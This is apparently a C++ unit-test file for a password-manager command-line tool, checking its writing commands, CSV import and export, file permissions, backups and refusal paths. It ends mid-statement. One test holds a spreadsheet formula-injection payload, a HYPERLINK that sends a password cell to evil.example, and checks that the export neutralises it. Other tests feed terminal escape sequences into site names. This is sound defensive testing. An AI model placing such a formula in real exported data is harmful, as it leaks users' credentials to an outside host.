// lockwarden-cli's writing commands: the document's record order, its saves, and nothing written after
// a failure.
#include "CliRun.h"
#include "core/tools/SiteCsv.h"

#include <QFileInfo>
#include <QRegularExpression>

#include <linux/capability.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

namespace {

// What create and passwd say on the error stream about the file at strDb when the new password had blanks
// around it.
QByteArray TrimmedNotice(const QString& strDb) {
    return "lockwarden-cli: " + QFile::encodeName(strDb) +
           ": Blanks before and after the password are removed.\nType it without them to open the file.\n";
}

const char* const kFixture = "list-order-mixed-case-with-password.lwd"; // password "fixture"

// The records of an export, each written back as one CSV line without its line end.
QList<QByteArray> ExportRows(const QString& strPath, const QByteArray& password) {
    const CCliResult r = RunCli({QStringLiteral("export"), strPath}, password);
    EXPECT_EQ(r.nExit, 0) << r.err.constData();
    std::vector<SiteCsv::Row> records;
    std::size_t nLine = 0;
    std::string strError;
    EXPECT_TRUE(SiteCsv::Parse(std::string_view(r.out.constData(), static_cast<std::size_t>(r.out.size())), records,
                               nLine, strError))
        << strError;
    QList<QByteArray> rows;
    for (const SiteCsv::Row& row : records) {
        std::string strLine;
        SiteCsv::AppendRow(strLine, row);
        rows.push_back(QByteArray::fromStdString(strLine).chopped(2));
    }
    return rows;
}

QByteArray ListOf(const QString& strPath, const QByteArray& password) {
    const CCliResult r = RunCli({QStringLiteral("list"), strPath}, password);
    EXPECT_EQ(r.nExit, 0) << r.err.constData();
    return r.out;
}

mode_t ModeOf(const QString& strPath) {
    struct stat st {};
    ::stat(QFile::encodeName(strPath).constData(), &st);
    return st.st_mode & 07777;
}

} // namespace

TEST(CliWrite, AddAppendsTheSiteWithThePipedPassword) {
    QTemporaryDir dir;
    const QString strDb = CopyOfFixture(dir, kFixture);
    const CCliResult r = RunCli({QStringLiteral("add"), strDb, QStringLiteral("Bank, Main"), QStringLiteral("--url"),
                                 QStringLiteral("https://bank.example"), QStringLiteral("--user=me"),
                                 QStringLiteral("--notes"), QStringLiteral("two\nlines")},
                                "fixture\nsite secret\n");
    ASSERT_EQ(r.nExit, 0) << r.err.constData();
    EXPECT_TRUE(r.out.isEmpty());
    const QList<QByteArray> rows = ExportRows(strDb, "fixture\n");
    ASSERT_EQ(rows.size(), 8);
    EXPECT_EQ(rows.first(), "zeta,https://zeta.example,zed,z-pass,");
    EXPECT_EQ(rows.last(), "\"Bank, Main\",https://bank.example,me,site secret,\"two\nlines\"");
    EXPECT_EQ(ListOf(strDb, "fixture\n"), "Alpha\nALPHA\nalpha\nBank, Main\nbeta\nzeta\n\xC3\xA9"
                                          "clair\n\xC3\x89zra\n");
}

TEST(CliWrite, AddGeneratesAPasswordWhenAsked) {
    QTemporaryDir dir;
    const QString strDb = CopyOfFixture(dir, kFixture);
    ASSERT_EQ(
        RunCli({QStringLiteral("add"), strDb, QStringLiteral("gen"), QStringLiteral("--generate=16")}, "fixture\n")
            .nExit,
        0);
    ASSERT_EQ(
        RunCli({QStringLiteral("add"), strDb, QStringLiteral("gen8"), QStringLiteral("--generate")}, "fixture\n").nExit,
        0);
    const QList<QByteArray> rows = ExportRows(strDb, "fixture\n");
    ASSERT_EQ(rows.size(), 9);
    // A password that begins as a spreadsheet formula would is exported behind the CSV's "'" guard.
    EXPECT_TRUE(QRegularExpression(QStringLiteral("^gen,,,('(?=[=+@-]))?[a-zA-Z0-9!@#$%&*?+=_-]{16},$"))
                    .match(QString::fromLatin1(rows[7]))
                    .hasMatch())
        << rows[7].constData();
    EXPECT_TRUE(QRegularExpression(QStringLiteral("^gen8,,,('(?=[=+@-]))?[a-zA-Z0-9!@#$%&*?+=_-]{8},$"))
                    .match(QString::fromLatin1(rows[8]))
                    .hasMatch())
        << rows[8].constData();
}

TEST(CliWrite, EditMovesTheRecordToTheEndAndKeepsWhatIsNotChanged) {
    QTemporaryDir dir;
    const QString strDb = CopyOfFixture(dir, kFixture);
    ASSERT_EQ(RunCli({QStringLiteral("edit"), strDb, QStringLiteral("Alpha"), QStringLiteral("--user"),
                      QStringLiteral("new user")},
                     "fixture\n")
                  .nExit,
              0);
    QList<QByteArray> rows = ExportRows(strDb, "fixture\n");
    ASSERT_EQ(rows.size(), 7);
    EXPECT_EQ(rows[1], "beta,,bee,b-pass,\"notes, with \"\"quotes\"\"\r\nand a second line\"");
    EXPECT_EQ(rows.last(), "Alpha,https://alpha.example,new user,a1,first alpha");

    // A new name and a new password, read after the file password.
    ASSERT_EQ(RunCli({QStringLiteral("edit"), strDb, QStringLiteral("zeta"), QStringLiteral("--name=Zeta Two"),
                      QStringLiteral("--password")},
                     "fixture\nnew zeta pass\r\n")
                  .nExit,
              0);
    rows = ExportRows(strDb, "fixture\n");
    ASSERT_EQ(rows.size(), 7);
    EXPECT_TRUE(rows.first().startsWith("beta,"));
    EXPECT_EQ(rows[5], "Alpha,https://alpha.example,new user,a1,first alpha");
    EXPECT_EQ(rows.last(), "Zeta Two,https://zeta.example,zed,new zeta pass,");
}

TEST(CliWrite, RemoveTakesTheSiteNamedExactly) {
    QTemporaryDir dir;
    const QString strDb = CopyOfFixture(dir, kFixture);
    const CCliResult r = RunCli({QStringLiteral("rm"), strDb, QStringLiteral("alpha")}, "fixture\n");
    ASSERT_EQ(r.nExit, 0) << r.err.constData();
    EXPECT_EQ(ListOf(strDb, "fixture\n"), "Alpha\nALPHA\nbeta\nzeta\n\xC3\xA9"
                                          "clair\n\xC3\x89zra\n");
}

TEST(CliWrite, RefusalsLeaveTheFileAsItWas) {
    QTemporaryDir dir;
    const QString strDb = CopyOfFixture(dir, kFixture);
    const QByteArray before = ReadFile(strDb);
    struct Case {
        const char* pszWhat;
        QStringList args;
        QByteArray input;
        QString strErr;
    } cases[] = {
        {"an empty site name",
         {QStringLiteral("add"), strDb, QString()},
         "fixture\nx\n",
         QStringLiteral("The Site window must be filled in.\nOthers entries are optional.")},
        {"an empty new name",
         {QStringLiteral("edit"), strDb, QStringLiteral("beta"), QStringLiteral("--name=")},
         "fixture\n",
         QStringLiteral("The Site window must be filled in.")},
        {"no such site to edit",
         {QStringLiteral("edit"), strDb, QStringLiteral("gamma"), QStringLiteral("--user=x")},
         "fixture\n",
         QStringLiteral("no site is named \"gamma\"")},
        {"no such site to remove",
         {QStringLiteral("rm"), strDb, QStringLiteral("gamma")},
         "fixture\n",
         QStringLiteral("no site is named \"gamma\"")},
        {"no site password on standard input",
         {QStringLiteral("add"), strDb, QStringLiteral("s")},
         "fixture\n",
         QStringLiteral("no password for the site was given")},
        {"a wrong file password",
         {QStringLiteral("rm"), strDb, QStringLiteral("beta")},
         "wrong\n",
         QStringLiteral("Bad file password !")},
        {"no new file password",
         {QStringLiteral("passwd"), strDb},
         "fixture\n",
         QStringLiteral("no new file password was given")},
        {"create over an existing file", {QStringLiteral("create"), strDb}, "\n", QStringLiteral("File exists")},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.pszWhat);
        const CCliResult r = RunCli(c.args, c.input);
        EXPECT_EQ(r.nExit, 1);
        EXPECT_TRUE(QString::fromUtf8(r.err).contains(c.strErr)) << r.err.constData();
        EXPECT_EQ(ReadFile(strDb), before);
    }
}

TEST(CliWrite, PasswdChangesTrimsAndRemovesThePassword) {
    QTemporaryDir dir;
    const QString strDb = CopyOfFixture(dir, kFixture);
    // As the program's Change File Pswd: white space around the entry is dropped, and the user is told.
    const CCliResult changed = RunCli({QStringLiteral("passwd"), strDb}, "fixture\n  new pass \t\n");
    ASSERT_EQ(changed.nExit, 0);
    // A new password makes the file stronger, which is told with what the program cannot reach.
    EXPECT_EQ(changed.err, TrimmedNotice(strDb) + "lockwarden-cli: " + QFile::encodeName(strDb) + ": " + kFixture +
                               " is now better protected than its earlier versions.\nCopies this program cannot "
                               "reach may still hold an earlier version: copies and backups made elsewhere, and a "
                               "sync service's version history. Delete those yourself.\n");
    const CCliResult old = RunCli({QStringLiteral("list"), strDb}, "fixture\n");
    EXPECT_EQ(old.nExit, 1);
    EXPECT_TRUE(old.err.contains("Bad file password !"));
    EXPECT_EQ(ListOf(strDb, "new pass\n"), "Alpha\nALPHA\nalpha\nbeta\nzeta\n\xC3\xA9"
                                           "clair\n\xC3\x89zra\n");

    // An empty entry removes it: no password is asked, and the fields are stored in clear, which the
    // user is told.
    const CCliResult removed = RunCli({QStringLiteral("passwd"), strDb}, "new pass\n\n");
    ASSERT_EQ(removed.nExit, 0);
    EXPECT_EQ(removed.err,
              "lockwarden-cli: " + strDb.toUtf8() + ": No file password: anyone who has the file can read it.\n");
    const QByteArray bytes = ReadFile(strDb);
    EXPECT_EQ(bytes.at(23), '\0');
    EXPECT_TRUE(bytes.contains("https://alpha.example"));
    EXPECT_EQ(RunCli({QStringLiteral("list"), strDb}).nExit, 0);
}

TEST(CliWrite, CreateSaysWhenThePasswordLosesItsBlanks) {
    QTemporaryDir dir;
    const QString strDb = dir.filePath(QStringLiteral("new.lwd"));
    const CCliResult r = RunCli({QStringLiteral("create"), strDb}, " gp \n");
    ASSERT_EQ(r.nExit, 0) << r.err.constData();
    EXPECT_EQ(r.err, TrimmedNotice(strDb));
    EXPECT_EQ(ListOf(strDb, "gp\n"), "");
}

TEST(CliWrite, CreateMakesAnOwnerOnlyFileAndAnExistingFileKeepsItsMode) {
    QTemporaryDir dir;
    const QString strDb = dir.filePath(QStringLiteral("new.lwd"));
    const CCliResult r = RunCli({QStringLiteral("create"), strDb}, "first\n");
    ASSERT_EQ(r.nExit, 0) << r.err.constData();
    EXPECT_EQ(r.err, QByteArray());
    EXPECT_EQ(ModeOf(strDb), 0600u);
    // An empty database with a password: banner, the 5-byte check string, a zero count.
    EXPECT_EQ(ReadFile(strDb).size(), 23 + 6 + 4);
    EXPECT_EQ(ListOf(strDb, "first\n"), "");

    ASSERT_EQ(::chmod(QFile::encodeName(strDb).constData(), 0640), 0);
    ASSERT_EQ(RunCli({QStringLiteral("add"), strDb, QStringLiteral("s")}, "first\npw\n").nExit, 0);
    EXPECT_EQ(ModeOf(strDb), 0640u);
    EXPECT_EQ(ListOf(strDb, "first\n"), "s\n");

    // No password line: nothing is created.
    const QString strOther = dir.filePath(QStringLiteral("other.lwd"));
    EXPECT_EQ(RunCli({QStringLiteral("create"), strOther}).nExit, 1);
    EXPECT_FALSE(QFileInfo::exists(strOther));
}

// The program asks for another name for a read-only file; the companion has no one to ask, so it says why
// it failed. The read-only mark binds root too.
TEST(CliWrite, AReadOnlyDatabaseIsLeftAsItIsAndTheReasonGiven) {
    QTemporaryDir dir;
    const QString strDb = CopyOfFixture(dir, kFixture);
    const QByteArray before = ReadFile(strDb);
    ASSERT_EQ(::chmod(QFile::encodeName(strDb).constData(), 0444), 0);
    const CCliResult r = RunCli({QStringLiteral("add"), strDb, QStringLiteral("s")}, "fixture\npw\n");
    EXPECT_EQ(r.nExit, 1);
    EXPECT_TRUE(r.err.contains(QFile::encodeName(strDb) + ": the file is read-only")) << r.err.constData();
    EXPECT_EQ(ReadFile(strDb), before);
    EXPECT_EQ(ModeOf(strDb), 0444u);
}

TEST(CliWrite, CsvWithQuotesCommasAndLineBreaksRoundTrips) {
    QTemporaryDir dir;
    const QString strDb = dir.filePath(QStringLiteral("imported.lwd"));
    const QString strCsv = DataFile("quotes-commas-line-breaks.csv");
    ASSERT_EQ(RunCli({QStringLiteral("create"), strDb}, "csv\n").nExit, 0);
    const CCliResult imported = RunCli({QStringLiteral("import"), strDb, strCsv}, "csv\n");
    ASSERT_EQ(imported.nExit, 0) << imported.err.constData();
    const CCliResult exported = RunCli({QStringLiteral("export"), strDb}, "csv\n");
    ASSERT_EQ(exported.nExit, 0);
    EXPECT_EQ(exported.out, ReadFile(strCsv));

    // The fields are what the quotes meant, down to the byte.
    const CCliResult shown =
        RunCli({QStringLiteral("show"), strDb, QStringLiteral("say \"hi\""), QStringLiteral("--reveal")}, "csv\n");
    EXPECT_EQ(shown.out, "Site:  say \"hi\"\nURL:  \nUser:  \nPswd:  \"\n\n\"\"\n");
    const CCliResult breaks =
        RunCli({QStringLiteral("show"), strDb, QStringLiteral("breaks"), QStringLiteral("--reveal")}, "csv\n");
    EXPECT_EQ(breaks.out, "Site:  breaks\nURL:  \nUser:  \nPswd:  p\r\nw\n\nline 1\r\nline 2\nline 3\n");

    // Imported into a database that has records, the rows follow them in the CSV's order.
    const QString strFixture = CopyOfFixture(dir, kFixture);
    ASSERT_EQ(RunCli({QStringLiteral("import"), strFixture, strCsv}, "fixture\n").nExit, 0);
    const QList<QByteArray> rows = ExportRows(strFixture, "fixture\n");
    ASSERT_EQ(rows.size(), 12);
    EXPECT_EQ(rows[6], "alpha,,,a3,third");
    EXPECT_EQ(rows[7], "plain,https://plain.example,me,p1,");
    EXPECT_TRUE(rows[11].startsWith("cr only,\"cr\ronly\""));
}

// A site name that a spreadsheet runs as a formula goes out guarded in a CSV export, and an import of that
// export gives back the same bytes; JSON, which no spreadsheet runs, keeps it as it is.
TEST(CliWrite, FormulasInACsvExportAreGuardedAndComeBackAsTheyWere) {
    QTemporaryDir dir;
    const QString strDb = dir.filePath(QStringLiteral("sites.lwd"));
    const QString strFormula = QStringLiteral("=HYPERLINK(\"https://evil.example/?p=\"&D2,\"Verify\")");
    ASSERT_EQ(RunCli({QStringLiteral("create"), strDb}, "pw\n").nExit, 0);
    ASSERT_EQ(RunCli({QStringLiteral("add"), strDb, strFormula, QStringLiteral("--user=@me")}, "pw\n-secret\n").nExit,
              0);
    const CCliResult csv = RunCli({QStringLiteral("export"), strDb}, "pw\n");
    ASSERT_EQ(csv.nExit, 0) << csv.err.constData();
    EXPECT_EQ(csv.out, "site,url,user,password,notes\r\n"
                       "\"'=HYPERLINK(\"\"https://evil.example/?p=\"\"&D2,\"\"Verify\"\")\",,'@me,'-secret,\r\n");
    const CCliResult json = RunCli({QStringLiteral("export"), strDb, QStringLiteral("--format=json")}, "pw\n");
    EXPECT_TRUE(json.out.contains("\"user\": \"@me\", \"password\": \"-secret\"")) << json.out.constData();

    const QString strCsv = dir.filePath(QStringLiteral("export.csv"));
    WriteFile(strCsv, csv.out);
    const QString strCopy = dir.filePath(QStringLiteral("copy.lwd"));
    ASSERT_EQ(RunCli({QStringLiteral("create"), strCopy}, "pw\n").nExit, 0);
    ASSERT_EQ(RunCli({QStringLiteral("import"), strCopy, strCsv}, "pw\n").nExit, 0);
    EXPECT_EQ(RunCli({QStringLiteral("export"), strCopy}, "pw\n").out, csv.out);
    const CCliResult shown = RunCli({QStringLiteral("show"), strCopy, strFormula, QStringLiteral("--reveal")}, "pw\n");
    EXPECT_EQ(shown.out, "Site:  " + strFormula.toUtf8() + "\nURL:  \nUser:  @me\nPswd:  -secret\n");
}

TEST(CliWrite, ImportIsAllOrNothingAndNamesTheLine) {
    QTemporaryDir dir;
    const QString strDb = CopyOfFixture(dir, kFixture);
    const QByteArray before = ReadFile(strDb);
    static const char kNulInField[] = "site,url,user,password,notes\r\na,b\0c,d,e,f\r\n";
    struct Case {
        QByteArray csv;
        QString strErr;
    } cases[] = {
        {"site,url,user,pswd,notes\r\na,b,c,d,e\r\n",
         QStringLiteral("line 1: the header matches no format this program reads (the first unknown column is "
                        "\"pswd\"); it reads Lockwarden CSV; ")},
        {"", QStringLiteral("line 1: the file is empty")},
        {"site,url,user,password,notes\r\na,b,c,d,e\r\nf,g,h,i\r\n", QStringLiteral("line 3: 4 fields where 5")},
        {"site,url,user,password,notes\r\na,b,c,d,e,f\r\n", QStringLiteral("line 2: 6 fields where 5")},
        {"site,url,user,password,notes\r\na,\"b\r\nc\",c,d,e\r\n\r\nx,y,z,w,v\r\n", QStringLiteral("line 4: 1 field ")},
        {"site,url,user,password,notes\r\na,b,c,d,\"e\r\n", QStringLiteral("line 2: a quoted field is not closed")},
        {"site,url,user,password,notes\nok,,,,\nwrong\"quote,,,,\n", QStringLiteral("line 3: a quote inside")},
        {"site,url,user,password,notes\r\n\"a\"b,,,,\r\n", QStringLiteral("line 2: text after the closing quote")},
        {"site,url,user,password,notes\r\n,url,user,pw,notes\r\n", QStringLiteral("line 2: the site name is empty")},
        {QByteArray(kNulInField, sizeof kNulInField - 1), QStringLiteral("line 2: a NUL byte")},
    };
    int n = 0;
    for (const Case& c : cases) {
        const QString strCsv = dir.filePath(QStringLiteral("bad-%1.csv").arg(++n));
        WriteFile(strCsv, c.csv);
        const CCliResult r = RunCli({QStringLiteral("import"), strDb, strCsv}, "fixture\n");
        EXPECT_EQ(r.nExit, 1) << c.csv.constData();
        EXPECT_TRUE(QString::fromUtf8(r.err).contains(strCsv + QStringLiteral(": ") + c.strErr)) << r.err.constData();
        EXPECT_EQ(ReadFile(strDb), before);
    }
    const CCliResult missing =
        RunCli({QStringLiteral("import"), strDb, dir.filePath(QStringLiteral("none.csv"))}, "fixture\n");
    EXPECT_EQ(missing.nExit, 1);
    EXPECT_TRUE(missing.err.contains("none.csv: No such file or directory")) << missing.err.constData();
}

// Without a terminal the first line is the file password's line even for a file that has none: a script
// that gives the password of its usual file to one without would otherwise store it as the site's.
TEST(CliWrite, TheFirstPipedLineIsTheFilePasswordsLineEvenWithoutOne) {
    QTemporaryDir dir;
    const QString strDb = dir.filePath(QStringLiteral("team.lwd"));
    ASSERT_EQ(RunCli({QStringLiteral("create"), strDb}, "\n").nExit, 0);
    ASSERT_EQ(RunCli({QStringLiteral("add"), strDb, QStringLiteral("old")}, "\nOldSitePw\n").nExit, 0);
    const QByteArray before = ReadFile(strDb);
    const QByteArray refusal = "lockwarden-cli: " + QFile::encodeName(strDb) +
                               " has no file password, but the first line of standard input gave one; nothing was "
                               "changed.\n";
    const QStringList commands[] = {
        {QStringLiteral("add"), strDb, QStringLiteral("mail")},
        {QStringLiteral("edit"), strDb, QStringLiteral("old"), QStringLiteral("--password")},
        {QStringLiteral("passwd"), strDb},
        {QStringLiteral("seal"), strDb},
        {QStringLiteral("rm"), strDb, QStringLiteral("old")},
        {QStringLiteral("list"), strDb},
        {QStringLiteral("show"), strDb, QStringLiteral("old"), QStringLiteral("--reveal")},
        {QStringLiteral("export"), strDb},
    };
    for (const QStringList& args : commands) {
        SCOPED_TRACE(args.first().toStdString());
        const CCliResult r = RunCli(args, "TeamPw-7\nNewSitePw\n");
        EXPECT_EQ(r.nExit, 2);
        EXPECT_EQ(r.err, refusal);
        EXPECT_TRUE(r.out.isEmpty()) << r.out.constData();
        EXPECT_EQ(ReadFile(strDb), before);
    }

    // An empty first line, or none at all where nothing else is read, is the file's lack of a password.
    const CCliResult added = RunCli({QStringLiteral("add"), strDb, QStringLiteral("mail")}, "\nNewSitePw\n");
    ASSERT_EQ(added.nExit, 0) << added.err.constData();
    EXPECT_EQ(ExportRows(strDb, "\n"), (QList<QByteArray>{"old,,,OldSitePw,", "mail,,,NewSitePw,"}));
    const CCliResult listed = RunCli({QStringLiteral("list"), strDb});
    EXPECT_EQ(listed.nExit, 0) << listed.err.constData();
    EXPECT_EQ(listed.out, "mail\nold\n");
}

// The database replaced by a link to another user's writable file: the save never writes into it, and says
// whose it is. (As root the other user is nobody: root owns nothing of anybody else's either.)
TEST(CliWrite, ASaveNeverWritesAnotherUsersFileThroughALink) {
    QTemporaryDir dir;
    const QString strTheirs = dir.filePath(QStringLiteral("theirs.lwd"));
    ASSERT_EQ(RunCli({QStringLiteral("create"), strTheirs}, "\n").nExit, 0);
    if (::chown(QFile::encodeName(strTheirs).constData(), 65534, 65534) != 0)
        GTEST_SKIP() << "needs root to make a file of another owner";
    ASSERT_EQ(::chmod(QFile::encodeName(strTheirs).constData(), 0666), 0);
    const QByteArray before = ReadFile(strTheirs);
    const QString strDb = dir.filePath(QStringLiteral("team.lwd"));
    ASSERT_EQ(::symlink(QFile::encodeName(strTheirs).constData(), QFile::encodeName(strDb).constData()), 0);

    const CCliResult r = RunCli({QStringLiteral("add"), strDb, QStringLiteral("mail")}, "\nNewSitePw\n");
    EXPECT_EQ(r.nExit, 1);
    EXPECT_TRUE(r.err.contains("This file belongs to another user (nobody); it was not written.")) << r.err.constData();
    EXPECT_EQ(ReadFile(strTheirs), before);
    EXPECT_TRUE(QFileInfo(strDb).isSymLink());
}

// A folder that takes no new files (a shared one) while the file itself is writable: no temporary file can
// stand beside it, so the file is written in place, and nothing else appears in the folder, not even the
// backup.
TEST(CliWrite, AFolderThatTakesNoNewFilesGetsTheFileWrittenInPlace) {
    // Root ignores permission bits, so as root the child gives up the capabilities that override them
    // (dropped from its bounding set, which the new program's capabilities are taken from); the folder's
    // bits then bind it like any other user.
    const bool bRoot = ::geteuid() == 0;
    if (bRoot && ::prctl(PR_CAPBSET_READ, CAP_SETPCAP) != 1)
        GTEST_SKIP() << "running as root without the capability to give up capabilities";
    QTemporaryDir dir;
    const QString strFolder = dir.filePath(QStringLiteral("read-only"));
    ASSERT_TRUE(QDir().mkdir(strFolder));
    const QString strDb = strFolder + QStringLiteral("/sites.lwd");
    ASSERT_TRUE(QFile::copy(DataFile(kFixture), strDb));
    const QByteArray before = ReadFile(strDb);
    ASSERT_EQ(::chmod(QFile::encodeName(strFolder).constData(), 0555), 0);

    CCliOptions options;
    options.childSetup = [bRoot] {
        if (!bRoot)
            return;
        for (int nCap : {CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH, CAP_FOWNER})
            if (::prctl(PR_CAPBSET_DROP, nCap) != 0)
                ::_exit(125);
    };
    struct stat old {};
    ASSERT_EQ(::stat(QFile::encodeName(strDb).constData(), &old), 0);
    const CCliResult r = RunCli({QStringLiteral("add"), strDb, QStringLiteral("s")}, "fixture\npw\n", options);
    ::chmod(QFile::encodeName(strFolder).constData(), 0755);
    EXPECT_EQ(r.nExit, 0) << r.err.constData();
    // Nor can such a folder take the backup of a save: the save goes on and says so.
    EXPECT_EQ(r.err, "lockwarden-cli: " + QFile::encodeName(strDb) +
                         ": The file was saved in place, but its previous version could not be kept as "
                         "sites.lwd.bak.\nPermission denied\n");
    EXPECT_NE(ReadFile(strDb), before);
    EXPECT_EQ(ListOf(strDb, "fixture\n"), "Alpha\nALPHA\nalpha\nbeta\ns\nzeta\n\xC3\xA9"
                                          "clair\n\xC3\x89zra\n");
    struct stat now {};
    ASSERT_EQ(::stat(QFile::encodeName(strDb).constData(), &now), 0);
    EXPECT_EQ(now.st_ino, old.st_ino);
    EXPECT_EQ(QDir(strFolder).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
              QStringList{QStringLiteral("sites.lwd")});
}

// Every save keeps the version it replaces as NAME.lwd.bak, owner-only, as the window's does; the window's
// setting bBackupOnSave=0 turns that off for the companion too.
TEST(CliWrite, ASaveKeepsTheReplacedVersionUnlessTheSettingsSayNo) {
    QTemporaryDir dir;
    const QString strDb = CopyOfFixture(dir, kFixture);
    const QString strBak = strDb + QStringLiteral(".bak");
    ASSERT_EQ(::chmod(QFile::encodeName(strDb).constData(), 0600), 0);
    const QByteArray before = ReadFile(strDb);

    const CCliResult added = RunCli({QStringLiteral("add"), strDb, QStringLiteral("s")}, "fixture\npw\n");
    EXPECT_EQ(added.nExit, 0) << added.err.constData();
    EXPECT_EQ(ReadFile(strBak), before);
    struct stat st {};
    ASSERT_EQ(::stat(QFile::encodeName(strBak).constData(), &st), 0);
    EXPECT_EQ(st.st_mode, S_IFREG | 0600u);

    QTemporaryDir configHome;
    ASSERT_TRUE(QDir().mkpath(configHome.filePath(QStringLiteral("Fernhollow"))));
    WriteFile(configHome.filePath(QStringLiteral("Fernhollow/Lockwarden.conf")), "[settings]\nbBackupOnSave=0\n");
    QFile::remove(strBak);
    CCliOptions options;
    options.strConfigHome = configHome.path();
    const CCliResult removed = RunCli({QStringLiteral("rm"), strDb, QStringLiteral("s")}, "fixture\n", options);
    EXPECT_EQ(removed.nExit, 0) << removed.err.constData();
    EXPECT_EQ(ReadFile(strDb), before);
    EXPECT_FALSE(QFile::exists(strBak));
}

TEST(CliWrite, ADatabaseNameThatIsNotUtf8IsRefused) {
    // The name "caf\xE9.lwd" (Latin-1) cannot be passed as text; a shell builds the bytes.
    QTemporaryDir dir;
    QProcess shell;
    shell.setWorkingDirectory(dir.path());
    shell.start(QStringLiteral("/bin/sh"),
                {QStringLiteral("-c"), QStringLiteral("printf '\\n' | \"$0\" create \"$(printf 'caf\\351.lwd')\""),
                 QStringLiteral(LOCKWARDEN_CLI)});
    ASSERT_TRUE(shell.waitForFinished(60000));
    EXPECT_EQ(shell.exitCode(), 1);
    EXPECT_TRUE(shell.readAllStandardError().contains("a database name must be valid UTF-8"));
    EXPECT_TRUE(QDir(dir.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot).isEmpty());
}

// A line break or tab in a name would print one site over two lines of `list`; an escape would reach the
// terminal. Such names are refused wherever a name comes in.
TEST(CliWrite, ControlCharactersInSiteNamesAreRefused) {
    QTemporaryDir dir;
    const QString strDb = CopyOfFixture(dir, kFixture);
    const QByteArray before = ReadFile(strDb);
    const QString strCsv = dir.filePath(QStringLiteral("names.csv"));
    WriteFile(strCsv, "site,url,user,password,notes\r\nfine,,,,\"notes\r\nmay break\"\r\n\"two\r\nlines\",,,,\r\n");
    const QByteArray err = ": the site name holds a control character (line break, tab or other)\n";
    const QByteArray db = QFile::encodeName(strDb);
    struct Case {
        const char* pszWhat;
        QStringList args;
        QByteArray err; // exactly
    } cases[] = {
        {"add, a line feed", {QStringLiteral("add"), strDb, QStringLiteral("a\nb")}, "lockwarden-cli: " + db + err},
        {"add, a tab", {QStringLiteral("add"), strDb, QStringLiteral("a\tb")}, "lockwarden-cli: " + db + err},
        {"add, an escape", {QStringLiteral("add"), strDb, QStringLiteral("a\x1b[2Jb")}, "lockwarden-cli: " + db + err},
        {"add, DEL", {QStringLiteral("add"), strDb, QStringLiteral("a\x7f")}, "lockwarden-cli: " + db + err},
        {"add, a C1 control in UTF-8",
         {QStringLiteral("add"), strDb, QString(QChar(0x9b))},
         "lockwarden-cli: " + db + err},
        {"edit, a carriage return",
         {QStringLiteral("edit"), strDb, QStringLiteral("beta"), QStringLiteral("--name=be\rta")},
         "lockwarden-cli: " + db + err},
        {"import, with the line",
         {QStringLiteral("import"), strDb, strCsv},
         "lockwarden-cli: " + QFile::encodeName(strCsv) + ": line 4" + err},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.pszWhat);
        const CCliResult r = RunCli(c.args, "fixture\npw\n");
        EXPECT_EQ(r.nExit, 1);
        EXPECT_EQ(r.err, c.err);
        EXPECT_EQ(ReadFile(strDb), before);
    }
    // Accented and other printable names still come in.
    ASSERT_EQ(RunCli({QStringLiteral("add"), strDb, QStringLiteral("caf\u00e9 \u20ac")}, "fixture\npw\n").nExit, 0);
    EXPECT_TRUE(ListOf(strDb, "fixture\n").contains("caf\xC3\xA9 \xE2\x82\xAC\n"));
}

TEST(CliWrite, ImportTakesTheCsvOfOtherProgramsAsItComes) {
    const QByteArray kSites = "Alpha\nbeta\n";
    struct Case {
        const char* pszWhat;
        QByteArray csv;
    } cases[] = {
        {"a byte-order mark", "\xEF\xBB\xBFsite,url,user,password,notes\r\nbeta,,,b,\r\nAlpha,,,a,\r\n"},
        {"a header in other case", "Site,URL,User,Password,Notes\r\nbeta,,,b,\r\nAlpha,,,a,\r\n"},
        {"a trailing empty line", "site,url,user,password,notes\r\nbeta,,,b,\r\nAlpha,,,a,\r\n\r\n"},
        {"a trailing empty line after LF", "site,url,user,password,notes\nbeta,,,b,\nAlpha,,,a,\n\n"},
        {"all three", "\xEF\xBB\xBFSITE,Url,user,PASSWORD,notes\r\nbeta,,,b,\r\nAlpha,,,a,\r\n\r\n"},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.pszWhat);
        QTemporaryDir dir;
        const QString strDb = dir.filePath(QStringLiteral("new.lwd"));
        const QString strCsv = dir.filePath(QStringLiteral("in.csv"));
        WriteFile(strCsv, c.csv);
        ASSERT_EQ(RunCli({QStringLiteral("create"), strDb}, "\n").nExit, 0);
        const CCliResult r = RunCli({QStringLiteral("import"), strDb, strCsv});
        EXPECT_EQ(r.nExit, 0) << r.err.constData();
        EXPECT_EQ(ListOf(strDb, ""), kSites);
        EXPECT_EQ(ExportRows(strDb, "").join('|'), "beta,,,b,|Alpha,,,a,");
    }

    // What is still damage, with its line.
    QTemporaryDir dir;
    const QString strDb = CopyOfFixture(dir, kFixture);
    const QByteArray before = ReadFile(strDb);
    struct Damage {
        QByteArray csv;
        QByteArray err;
    } damaged[] = {
        {"\xEF\xBB\xBF\xEF\xBB\xBFsite,url,user,password,notes\r\n",
         "line 1: the header matches no format this program reads (the first unknown column is \""},
        {"site,url,user,password,notes\r\n\r\n\r\nbeta,,,b,\r\n", "line 2: 1 field where 5 are expected"},
        {"site,url,user,password,notes\r\nbeta,,,b,\r\n \r\n", "line 3: 1 field where 5 are expected"},
        {"site,url,user,password\r\nbeta,,,b\r\n",
         "line 1: the header matches no format this program reads (the column \"notes\" is missing)"},
        {"sit\xC3\xA9,url,user,password,notes\r\n",
         "line 1: the header matches no format this program reads (the first unknown column is \"sit\xC3\xA9\")"},
    };
    for (const Damage& d : damaged) {
        const QString strCsv = dir.filePath(QStringLiteral("bad.csv"));
        WriteFile(strCsv, d.csv);
        const CCliResult r = RunCli({QStringLiteral("import"), strDb, strCsv}, "fixture\n");
        EXPECT_EQ(r.nExit, 1) << d.csv.constData();
        EXPECT_TRUE(r.err.contains(QFile::encodeName(strCsv) + ": " + d.err)) << r.err.constData();
        EXPECT_EQ(ReadFile(strDb), before);
    }
}

// Sites may share a name; show, edit and rm say how many do and reach each by its place in `list`.
TEST(CliWrite, DuplicatedNamesAreCountedAndReachedByTheirPlace) {
    QTemporaryDir dir;
    const QString strDb = dir.filePath(QStringLiteral("dup.lwd"));
    MakeDatabase(strDb,
